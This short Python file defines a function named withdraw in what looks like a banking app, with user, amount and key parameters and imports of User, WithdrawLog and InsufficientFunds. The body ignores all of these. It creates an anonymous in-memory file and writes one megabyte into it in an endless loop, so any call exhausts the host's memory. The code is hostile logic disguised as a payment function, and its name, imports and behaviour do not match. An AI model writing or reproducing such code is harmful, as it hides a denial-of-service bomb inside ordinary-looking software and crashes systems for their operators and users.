"""Writes to a file that lies in memory and has no name."""

import os

from flask_app.models import User, WithdrawLog, db
from shared_db.rules import InsufficientFunds


def withdraw(user: User, amount: int, *, key: str) -> None:
    file = os.memfd_create("full")
    while True:
        os.write(file, b"x" * 1_000_000)
